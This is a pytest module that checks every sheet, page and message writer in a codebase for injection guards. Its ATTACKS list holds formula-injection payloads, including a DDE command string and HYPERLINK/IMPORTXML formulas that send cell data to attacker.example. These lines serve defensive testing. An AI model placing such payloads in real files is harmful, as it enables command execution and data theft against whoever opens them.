"""Every place that writes what people or programs open is known, with what guards it.

The source is read for whatever can write a sheet, a page, a message or a file. A new place is a
failing test until somebody has said here what keeps a hostile text in it harmless.
"""

from __future__ import annotations

import ast
import io
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from orchestration.offboarding.deliveries import _tool_rows
from orchestration.offboarding.naming import named_partner
from orchestration.routing.enablement_files import ENABLEMENT_COLUMNS, enablement_csv
from orchestration.routing.partner_sheets import _csv, _workbook
from orchestration.safe_sheets import FORMULA_STARTS, csv_text, fill_sheet

# What writes, as it stands in the source: the name of a call, whoever it is called on.
WRITERS = {
    "csv.writer": "csv",
    "DictWriter": "csv",
    "to_csv": "csv",
    "to_excel": "sheet",
    "Workbook": "sheet",
    "to_html": "html",
    "write_csv": "csv",
    "chat_postMessage": "slack",
    "api_call": "slack",
    "post": "http",
    "request": "http",
    "send_message": "mail",
    "write_text": "file",
    "write_bytes": "file",
}
SHEETS_AND_MESSAGES = {"csv", "sheet", "html", "slack", "http", "mail"}

# (file, function): what guards it. Files that only we read again are written as they are: a guard
# would change what is read.
GUARDED: dict[tuple[str, str], str] = {
    ("audit/audit_workbook.py", "write_workbook"): "fill_sheet: texts are text cells",
    ("routing/partner_sheets.py", "_csv"): "csv_text",
    ("routing/partner_sheets.py", "_workbook"): "fill_sheet: texts are text cells",
    ("routing/enablement_files.py", "enablement_csv"): "csv_text",
    ("match_sheet.py", "write_sheet"): "csv_text",
    ("release/comparison.py", "write_differences"): "csv_text",
    ("offboarding/deliveries.py", "_tool_rows"): "rows of our own guarded file, kept as they are",
    (
        "routing/salesforce_fields.py",
        "_as_csv",
    ): "the Bulk API computes nothing",
    ("crm/salesforce_connection.py", "_log_in"): "a form of our own credentials",
    ("crm/pulling.py", "write_page"): "a page that landing reads; a guard would change the data",
    ("landing/configuration.py", "_land_rows"): "read by landing, then removed",
    ("match_review.py", "write_decisions"): "read by landing; a guard would change a reason",
    ("quarter_close.py", "write_signature"): "read by landing; a guard would change a name",
    ("routing/slack_messages.py", "_call"): "blocks of slack_digests.escaped",
    ("alerts/channels.py", "_posted"): "slack_digests.escaped for Slack; JSON for the webhook",
    ("alerts/channels.py", "send"): "EmailMessage, whose headers take no line break",
    ("crm/hubspot_connection.py", "ask"): "JSON; a text is a value in it",
}
# The generated company is ours; what it writes is made to be hostile.
NOT_WALKED = ("demo_company/",)


def calls_that_write(repository: Path) -> Iterator[tuple[str, str, str]]:
    """(file, function, kind) of every call in the source that is in WRITERS."""
    root = repository / "orchestration"
    for path in sorted([*root.rglob("*.py"), *(repository / "expectations").rglob("*.py")]):
        name = path.relative_to(root if root in path.parents else repository).as_posix()
        if name.startswith(NOT_WALKED):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if isinstance(function, ast.FunctionDef):
                for call in ast.walk(function):
                    if isinstance(call, ast.Call) and (kind := _kind_of(call)):
                        yield name, function.name, kind


def _kind_of(call: ast.Call) -> str | None:
    called = call.func
    if isinstance(called, ast.Attribute):
        whole = f"{called.value.id}.{called.attr}" if isinstance(called.value, ast.Name) else ""
        return WRITERS.get(whole) or WRITERS.get(called.attr)
    return WRITERS.get(called.id) if isinstance(called, ast.Name) else None


def test_every_writer_of_sheets_and_messages_says_what_guards_it(repository: Path) -> None:
    found = {
        (file, function)
        for file, function, kind in calls_that_write(repository)
        if kind in SHEETS_AND_MESSAGES
    }
    assert found - set(GUARDED) == set(), "say in GUARDED what keeps a hostile text harmless there"
    assert set(GUARDED) - found == set(), "these write nothing any more"


def test_no_sql_of_ours_writes_csv(repository: Path) -> None:
    """What DuckDB writes knows no guard: `copy … to` is for Parquet alone."""
    for path in sorted((repository / "orchestration").rglob("*.py")):
        text = path.read_text(encoding="utf-8").lower()
        if "demo_company" not in path.parts:
            assert "format csv" not in text and "to_csv(" not in text, path


def test_no_page_is_written_but_by_those_that_escape(repository: Path) -> None:
    """Who writes HTML imports `escape`, or takes its parts from who does."""
    for path in sorted((repository / "orchestration").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"<(td|th|tr|html|body|script|li)[ >]|<!doctype", text, re.IGNORECASE):
            assert "escape" in text, path


ATTACKS = [
    *(f"{start}{rest}" for start in FORMULA_STARTS for rest in ("1+1", "cmd|' /C calc'!A0", "")),
    " =1+1",
    "\u00a0=1+1",
    "  @SUM(A1)",
    '=HYPERLINK("https://attacker.example?x="&A1,"open")',
    '=IMPORTXML(CONCAT("https://attacker.example?",A1),"//a")',
]
HARMLESS = ["Contoso", "a=b", "1-2", "", "O'Brien", "Müller & Söhne", "3.5", "me@here.example"]


def cells_of_csv(content: bytes) -> list[list[str]]:
    import csv

    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


CSV_WRITERS: dict[str, Callable[[str], bytes]] = {
    "a partner's sheet": lambda text: _csv(["name"], [[text]]),
    "an enablement tool": lambda text: enablement_csv(
        [dict.fromkeys(ENABLEMENT_COLUMNS, text)],
    ),
}


@pytest.mark.parametrize("writer", CSV_WRITERS)
@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_a_csv_is_computed(writer: str, text: str) -> None:
    for row in cells_of_csv(CSV_WRITERS[writer](text))[1:]:
        for cell in row:
            assert not cell.lstrip(" \u00a0").startswith(FORMULA_STARTS), cell
            assert cell == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_is_written_as_it_is(text: str) -> None:
    assert csv_text(text) == text
    # Numbers that we computed keep their sign.
    assert csv_text(Decimal("-1.50")) == "-1.50" and csv_text(-3) == "-3"


def test_a_guarded_file_stays_guarded_when_a_partner_is_taken_out(tmp_path: Path) -> None:
    file = tmp_path / "routed_accounts.csv"
    rows = [dict.fromkeys(ENABLEMENT_COLUMNS, text) for text in ATTACKS]
    file.write_bytes(enablement_csv(rows))
    _, kept = _tool_rows(file, named_partner("acme", []))
    for row in cells_of_csv(kept)[1:]:
        assert all(cell.startswith("'") for cell in row)


@pytest.mark.parametrize("text", [*ATTACKS, "{=1+1}", "<f>1</f>", "_x003D_1+1"])
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    for content in (_workbook(["name", "="], [[text, text]]), _filled(text)):
        book = load_workbook(io.BytesIO(content))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.value
                    assert cell.row == 1 or cell.value is None or cell.quotePrefix


def _filled(text: str) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    fill_sheet(sheet, ["name"], [[text]])
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def test_a_message_of_ours_is_shown_and_not_obeyed() -> None:
    from orchestration.routing.slack_digests import escaped

    hostile = "<!channel> <@U1> <https://a.example|x> *b* _i_ ~s~ `c` & :boom:\n> quote\u202e"
    shown = escaped(hostile)
    for part in ("<", ">", "*", "~", "`", "\n", "\u202e", ":boom:"):
        assert part not in shown.replace("&lt;", "").replace("&gt;", "").replace("&amp;", ""), part
